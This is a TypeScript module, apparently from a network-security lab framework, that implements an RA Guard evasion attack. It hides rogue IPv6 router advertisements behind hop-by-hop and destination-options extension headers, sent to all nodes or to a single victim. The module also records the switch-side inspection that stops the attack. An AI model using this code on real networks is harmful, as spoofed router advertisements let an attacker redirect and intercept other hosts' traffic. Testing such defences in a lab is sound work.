// SPDX-License-Identifier: Apache-2.0
import { bytes, concat, u16 } from "../../lab/packet.ts";
import { advertise, type Ways } from "../advertisements.ts";
import type { Attack } from "../attack.ts";
import { allNodes, linkLocal } from "../evidence.ts";

const [ETHERNET, IP6, NEXT, LENGTH] = [14, 40, 6, 4];
/** A header of eight bytes: PadN (RFC 8200, 4.2). */
const PADDING = bytes(0, 0, 1, 4, 0, 0, 0, 0);

/** Puts headers (their numbers; each without meaning) between IPv6 and what it carries. */
function behind(frame: Uint8Array, ...headers: readonly number[]): Uint8Array {
  const at = ETHERNET + IP6;
  const kinds = [...headers, frame[ETHERNET + NEXT]!];
  const chain = headers.map((_, i) => { const header = PADDING.slice(); header[0] = kinds[i + 1]!; return header; });
  const whole = concat([frame.subarray(0, at), ...chain, frame.subarray(at)]);
  whole[ETHERNET + NEXT] = kinds[0]!;
  whole.set(u16(whole.length - at), ETHERNET + LENGTH);
  return whole;
}

const [HOP_BY_HOP, DESTINATION] = [0, 60];
const hidden = (...headers: readonly number[]): Ways[string] => ({ mac }, _, frame) => behind(frame({ from: mac, to: allNodes.mac }, allNodes.ip), ...headers);

// RFC 7113: filters that look for ICMPv6 right behind the IPv6 header see none.
export const ipv6ExtensionHeaders: Attack = {
  slug: "ipv6-extension-headers",
  needs: "a place on the network",
  gains: "router advertisements past filters that do not look behind extension headers",
  stoppedBy: "guard: the switch finds what is behind extension headers; binding and group for what it does not find",
  run: (field) => advertise(field, {
    "hop by hop": hidden(HOP_BY_HOP), "destination options": hidden(DESTINATION), "three headers": hidden(HOP_BY_HOP, DESTINATION, DESTINATION),
    unicast: ({ mac }, victim, frame) => behind(frame({ from: mac, to: victim.mac }, linkLocal(victim)), DESTINATION, DESTINATION),
  }),
};
